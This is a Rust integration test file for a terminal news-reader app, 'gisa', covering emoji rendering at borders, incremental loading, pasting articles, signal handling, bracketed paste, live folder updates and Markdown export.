    write_articles(dir.path());
    let script = format!(
        "{} --articles '{}' </dev/null",
        env!("CARGO_BIN_EXE_gisa"),
        dir.path().display()
    );
    let argv: Vec<String> = ["setsid", "-w", "sh", "-c", &script]
        .iter()
        .map(|a| (*a).to_owned())
        .collect();
    let mut s = Session::start_argv(&argv, dir.path(), &[]);
    assert_eq!(s.wait_exit(), 1);
    s.wait_for_text("gisa: cannot take over the terminal for the reader");
    assert!(!s.raw_text().contains("\x1b[?1049h") || s.raw_text().contains("\x1b[?1049l"));
}

/// Matrix row 14: emoji sequences (ZWJ, VS16, flags, skin tones) at line ends inside the bordered
/// reader, scrolled down and up line by line at 40x12: the right border stays whole on every
/// row of the emulated screen, and the emoji themselves are still there. vt100 draws character
/// by character, as xterm, VTE and tmux do; the sanitizer takes apart the sequences such a
/// terminal would draw wider than ratatui expects.
#[test]
fn emoji_at_line_ends_never_break_the_right_border() {
    let dir = tempfile::tempdir().unwrap();
    let body = ["👩‍🔬", "❤️", "🇫🇷", "👍🏽", "👨‍👩‍👧", "漢字"]
        .iter()
        .cycle()
        .take(30)
        .enumerate()
        .map(|(i, e)| format!("Line {i} of the story ends with {e} {e}{e}\n\n"))
        .collect::<Vec<_>>()
        .concat();
    std::fs::write(
        dir.path().join("001_emoji.txt"),
        format!("Emoji at the edge\n\nSEOUL (Reuters) - Start.\n\n{body}"),
    )
    .unwrap();
    let mut s = Session::start_in(dir.path(), &[]);
    s.wait_for_text("1 of 1 article");
    s.resize(12, 40);
    s.send("\r");
    s.wait_for_text("Emoji at the edge");
    // The right border is whole on every row, and no half of a flag is left behind: vt100 draws
    // a flag's two regional indicators in two cells, and a scroll used to leave the second.
    let sound = |screen: &vt100::Screen| {
        let text = screen.contents();
        text.matches('🇷').count() == text.matches("🇫🇷").count()
            && (0..11).all(|row| {
                screen
                    .cell(row, 39)
                    .is_some_and(|c| ["┃", "│", "┓", "┛", "█", "┐", "┘"].contains(&c.contents()))
            })
    };
    for key in std::iter::repeat_n("j", 40).chain(std::iter::repeat_n("k", 40)) {
        s.send(key);
        thread::sleep(Duration::from_millis(15));
    }
    s.send("G");
    s.wait_until("the end of the article, sound", |screen| {
        screen.contents().contains("Line 29") && sound(screen)
    });
    s.send("g");
    s.wait_until(
        "the top again, sound, the ZWJ sequence shown apart",
        |screen| {
            let text = screen.contents();
            text.contains("Emoji at the edge") && text.contains("👩🔬") && sound(screen)
        },
    );
    for key in std::iter::repeat_n("j", 12) {
        s.send(key);
    }
    s.wait_until("the other emoji shown, sound", |screen| {
        let text = screen.contents();
        ["👍", "👨👩👧", "漢字"].iter().all(|e| text.contains(e)) && sound(screen)
    });
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
}

/// The first screen is drawn before the load ends, and the list fills in behind it: on 1,200
/// generated articles (several seconds in a debug build), `--open` shows its article as soon as
/// it is in, keys are answered while the rest load, and the end of the load is said.
#[test]
fn the_reader_answers_while_the_articles_load_and_the_list_fills_in() {
    const COUNT: usize = 1200;
    let dir = tempfile::tempdir().unwrap();
    let corpus = dir.path().join("corpus");
    let made = std::process::Command::new(common::example("gencorpus"))
        .arg(&corpus)
        .args(["--count", &COUNT.to_string()])
        .output()
        .unwrap();
    assert!(made.status.success(), "{made:?}");
    // One article of our own, first in the walk's order.
    std::fs::write(
        corpus.join("000").join("000000_marker.txt"),
        "Marker story on the Busan port opening\n\nBUSAN (Yonhap) - The new port opened on Monday.\n",
    )
    .unwrap();
    let total = COUNT + 1;
    let mut s = Session::start_with(&corpus, &["--open", "000/000000_marker"], &[]);

    s.wait_until(
        "the article asked for, open while the rest load",
        |screen| {
            let text = screen.contents();
            text.contains("The new port opened on Monday")
                && text.contains(&format!(" of {total} files"))
        },
    );
    let first = s.raw_text();
    assert!(
        first.contains("loading"),
        "the first frames say the load is on"
    );

    // Keys are answered meanwhile: back to the list, one article on.
    s.send("\x1b");
    // Wait for a second article in the list: with the marker alone there is nowhere to move.
    s.wait_until("a second article in the list", |screen| {
        list_position(&screen.contents()).is_some_and(|(_, of)| of >= 2)
    });
    let (before, marker_row) = {
        let parser = s.parser.lock().unwrap();
        (parser.screen().contents(), selected_row(parser.screen()))
    };
    assert!(
        before.contains("loading "),
        "the load ended too soon for this test:\n{before}"
    );
    // The undated marker sorts after the dated articles: while only dated ones are in, it is
    // last and `j` has nowhere to go, so it moves up instead. Articles only ever join, so
    // the neighbour chosen here is still there when the key arrives.
    let (at, of) = list_position(&before).unwrap();
    let key = if at < of { "j" } else { "k" };
    let sent = Instant::now();
    s.send(key);
    s.wait_until("the selection moved while loading", |screen| {
        selected_row(screen) != marker_row
    });
    assert!(
        s.screen_text().contains("loading "),
        "the load ended before the key was answered ({:?} after it):\n{}",
        sent.elapsed(),
        s.screen_text()
    );

    // Then every article is in, and the status bar says so until the next key.
    s.wait_until("the end of the load", |screen| {
        let text = screen.contents();
        text.contains(&format!("loaded {total} articles in")) && !text.contains("loading ")
    });
    s.wait_for_text(&format!(" of {total} articles"));
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
}

/// `gisa add` in a pty, run by `sh` so that the terminal's modes can be printed after it ends.
fn add_session(dir: &Path) -> Session {
    let script = "\"$0\" --articles . add; echo \"rc=$?\"; stty -a | tr -s ' ;\\n' '\\n\\n\\n' | grep -E '^-?(icanon|echo|isig)$' | tr '\\n' ' '; echo END";
    let argv = [
        "sh".to_owned(),
        "-c".to_owned(),
        script.to_owned(),
        env!("CARGO_BIN_EXE_gisa").to_owned(),
    ];
    Session::start_argv(&argv, dir, &[])
}

/// The terminal's line editing, echo and signal keys are on again, as `add_session`'s last line
/// prints them.
fn assert_modes_restored(screen: &str) {
    let line = screen
        .lines()
        .find(|l| l.ends_with("END"))
        .unwrap_or_else(|| panic!("no modes line: {screen}"));
    let mut modes: Vec<&str> = line.split_whitespace().filter(|w| *w != "END").collect();
    modes.sort_unstable();
    assert_eq!(modes, ["echo", "icanon", "isig"], "{screen}");
}

#[test]
fn a_pasted_paragraph_longer_than_a_terminal_line_is_added_whole() {
    let dir = tempfile::tempdir().unwrap();
    write_articles(dir.path());
    let mut s = add_session(dir.path());
    s.wait_for_text("Paste the article");
    // 6,000 characters in one line: a terminal's line editing keeps 4,095 of them.
    let words: Vec<String> = (0..900).map(|i| format!("w{i:03}x")).collect();
    let paragraph = format!("TOKYO (Reuters) - {} ends here.", words.join(" "));
    assert!(paragraph.len() > 5000);
    let paste = format!("Lawmakers debate a very long bill\r{paragraph}\r");
    s.send(&paste);
    s.wait_for_text("ends here.");
    s.send("\x04");
    s.wait_for_text("END");
    let screen = s.screen_text();
    assert!(screen.contains("rc=0"), "{screen}");
    assert_modes_restored(&screen);
    let added: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.to_string_lossy().contains("lawmakers-debate"))
        .collect();
    assert_eq!(added.len(), 1, "{screen}");
    let text = std::fs::read_to_string(&added[0]).unwrap();
    assert_eq!(
        text,
        format!("Lawmakers debate a very long bill\n{paragraph}\n")
    );
}

#[test]
fn ctrl_c_during_a_paste_adds_nothing_and_restores_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    write_articles(dir.path());
    let mut s = add_session(dir.path());
    s.wait_for_text("Paste the article");
    s.send("Half a headline\rand half a");
    s.wait_for_text("and half a");
    s.send("\x03");
    s.wait_for_text("END");
    let screen = s.screen_text();
    assert!(screen.contains("cancelled; nothing was added"), "{screen}");
    assert!(screen.contains("rc=130"), "{screen}");
    assert_modes_restored(&screen);
    let mut texts: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| !n.starts_with("cache") && !n.starts_with("state"))
        .collect();
    texts.sort();
    assert_eq!(texts, ["001_alpha.txt", "002_beta.txt"], "{screen}");
}

/// The text of the sidebar pane (the columns from its title's corner), row by row.
fn sidebar_text(screen: &vt100::Screen) -> String {
    let contents = screen.contents();
    let Some(top) = contents.lines().next() else {
        return String::new();
    };
    let Some(at) = top.find("┌ Details") else {
        return String::new();
    };
    let col = top[..at].chars().count();
    contents
        .lines()
        .map(|l| l.chars().skip(col).collect::<String>())
        .collect::<Vec<_>>()
        .join("\n")
}

/// Run `gisa add` on `text` into `dir`, as another terminal would while the reader runs.
fn add_article(dir: &Path, text: &str) {
    use std::process::{Command, Stdio};
    let mut child = Command::new(env!("CARGO_BIN_EXE_gisa"))
        .arg("--articles")
        .arg(dir)
        .arg("add")
        .env("GISA_CACHE_DIR", dir.join("cache"))
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(text.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn articles_pasted_while_the_reader_runs_appear_cross_referenced_and_a_deleted_one_goes() {
    let dir = tempfile::tempdir().unwrap();
    write_articles(dir.path());
    let mut s = Session::start_in(dir.path(), &[]);
    s.wait_for_text("Alpha summit opens in Seoul");
    // The reader on the older story, scrolled: it must stay there.
    s.send("j");
    s.wait_until("Beta selected", |sc| {
        selected_row(sc).is_some_and(|r| r.contains("Beta talks"))
    });
    let pastes = [
        "Gamma summit ends in Seoul with a pact\nMarch 7, 2024\nSEOUL (Reuters) - Leaders closed the alpha summit on Wednesday with a pact on chips.\n\nThe talks in Seoul ran a day longer than planned.\n",
        "Delta ministers meet in Busan\nMarch 6, 2024\nBUSAN (Reuters) - Ministers met on Thursday after the summit in Seoul.\n",
        "Epsilon exports rise in March\nMarch 5, 2024\nTOKYO (Reuters) - Exports rose in March, customs data showed.\n",
    ];
    for (paste, headline) in
        pastes
            .iter()
            .zip(["Gamma summit", "Delta ministers", "Epsilon exports"])
    {
        add_article(dir.path(), paste);
        s.wait_for_text(headline);
    }
    s.wait_for_text("+1 article");
    let screen = s.screen_text();
    assert!(
        selected_row(s.parser.lock().unwrap().screen()).is_some_and(|r| r.contains("Beta talks")),
        "the selection stayed on its article: {screen}"
    );
    // The new story's sidebar names the old one it relates to.
    s.send("g");
    s.wait_until("Gamma selected", |sc| {
        selected_row(sc).is_some_and(|r| r.contains("Gamma summit"))
    });
    s.wait_until("Alpha among Gamma's related stories", |sc| {
        sidebar_text(sc).contains("Alpha summit opens")
    });
    // The open article's file deleted: the next takes its row, and the status says so.
    let gamma = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.to_string_lossy().contains("gamma-summit"))
        .unwrap();
    std::fs::remove_file(gamma).unwrap();
    s.wait_for_text("1 removed; the selected article's file is gone");
    assert!(
        !s.screen_text().contains("Gamma summit"),
        "{}",
        s.screen_text()
    );
    // r reads the folder again and says when nothing changed.
    s.send("r");
    s.wait_for_text("the articles folder has not changed");
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
}

#[test]
fn e_exports_the_listed_articles_to_a_markdown_file_and_says_where() {
    let dir = tempfile::tempdir().unwrap();
    write_articles(dir.path());
    let mut s = Session::start_in(dir.path(), &[]);
    s.wait_for_text("Beta talks stall");
    s.send("/alpha\r");
    s.wait_until("the filter applied", |sc| {
        !sc.contents().contains("Beta talks stall")
    });
    s.send("e");
    s.wait_for_text("exported 1 article to");
    let exports: Vec<std::path::PathBuf> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("gisa-alpha-")
        })
        .collect();
    assert_eq!(exports.len(), 1, "{}", s.screen_text());
    let md = std::fs::read_to_string(&exports[0]).unwrap();
    assert!(md.starts_with("# gisa export: alpha\n"), "{md}");
    assert!(md.contains("\n## Alpha summit opens in Seoul\n"), "{md}");
    assert!(!md.contains("Beta talks"), "{md}");
    // A second export the same day never replaces the first.
    s.send("e");
    s.wait_until("a second export", |sc| sc.contents().contains("-2.md"));
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
}

#[test]
fn the_add_pane_takes_a_paste_a_corrected_date_and_saves_it_into_the_list() {
    let dir = tempfile::tempdir().unwrap();
    write_articles(dir.path());
    let mut s = Session::start_in(dir.path(), &[]);
    s.wait_for_text("Beta talks stall");
    s.send("a");
    s.wait_for_text("Add an article: paste it");
    // A paste as a terminal sends it without bracketed paste: lines end in CR.
    s.send("Zeta talks resume in Busan\rMarch 3, 2024\rBUSAN (Reuters) - Negotiators met again on Sunday after a month apart, officials said.\r");
    s.wait_for_text("3 lines");
    s.send("\x04");
    s.wait_for_text("what was understood");
    s.wait_for_text("2024-03-03-zeta-talks-resume-in-busan.txt");
    s.send("d");
    s.wait_for_text("date (2019-11-23");
    s.send("2024-03-04\r");
    s.wait_for_text("2024-03-04 (given)");
    s.send("\r");
    s.wait_for_text("added as");
    s.wait_until("the new article listed", |sc| {
        sc.contents().contains("Zeta talks resume")
    });
    let saved =
        std::fs::read_to_string(dir.path().join("2024-03-04-zeta-talks-resume-in-busan.txt"))
            .unwrap();
    assert_eq!(
        saved,
        "+++\ndate = \"2024-03-04\"\n+++\nZeta talks resume in Busan\nMarch 3, 2024\nBUSAN (Reuters) - Negotiators met again on Sunday after a month apart, officials said.\n"
    );
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
}

#[test]
fn a_bracketed_paste_goes_whole_into_the_add_pane_and_is_let_go_elsewhere() {
    let dir = tempfile::tempdir().unwrap();
    write_articles(dir.path());
    let mut s = Session::start_in(dir.path(), &[]);
    s.wait_for_text("Beta talks stall");
    assert!(
        s.raw_text().contains("\x1b[?2004h"),
        "bracketed paste is asked for"
    );
    // Pasted into the list, a text full of keys (q quits, d, e, a...) does nothing but say so.
    s.send("\x1b[200~quit and delete everything\r\x1b[201~");
    s.wait_for_text("pasted text is taken by the add pane");
    assert!(s.is_running());
    // Into the add pane it is the article, line breaks and all, however long its lines.
    s.send("a");
    s.wait_for_text("Add an article: paste it");
    let paragraph = format!(
        "SEOUL (Reuters) - {} quietly ended.",
        (0..800)
            .map(|i| format!("q{i}"))
            .collect::<Vec<_>>()
            .join(" ")
    );
    s.send(&format!(
        "\x1b[200~Theta quarrel ends in Seoul\r\nApril 2, 2024\r\n{paragraph}\r\n\x1b[201~"
    ));
    s.wait_for_text("3 lines");
    s.send("\x04");
    s.wait_for_text("what was understood");
    s.wait_for_text("2024-04-02-theta-quarrel-ends-in-seoul.txt");
    s.wait_for_text("804 words in 1 paragraph");
    s.send("q");
    assert!(s.is_running(), "q in the review is not quit");
    s.send("\x1b");
    s.send("\x1b");
    s.wait_until("the pane closed", |sc| {
        !sc.contents().contains("Add an article")
    });
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
    assert!(
        s.raw_text().contains("\x1b[?2004l"),
        "and let go at the end"
    );
}

#[test]
fn a_signal_during_a_paste_restores_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    write_articles(dir.path());
    let mut s = add_session(dir.path());
    s.wait_for_text("Paste the article");
    s.send("Half a paste");
    s.wait_for_text("Half a paste");
    // `sh` runs gisa as its child: send it SIGTERM.
    let sh = s.pid();
    let children = std::fs::read_to_string(format!("/proc/{sh}/task/{sh}/children")).unwrap();
    let gisa: i32 = children.split_whitespace().next().unwrap().parse().unwrap();
    rustix::process::kill_process(
        rustix::process::Pid::from_raw(gisa).unwrap(),
        rustix::process::Signal::TERM,
    )
    .unwrap();
    s.wait_for_text("END");
    let screen = s.screen_text();
    assert!(screen.contains("rc=143"), "{screen}");
    assert_modes_restored(&screen);
    assert_eq!(s.wait_exit(), 0);
}
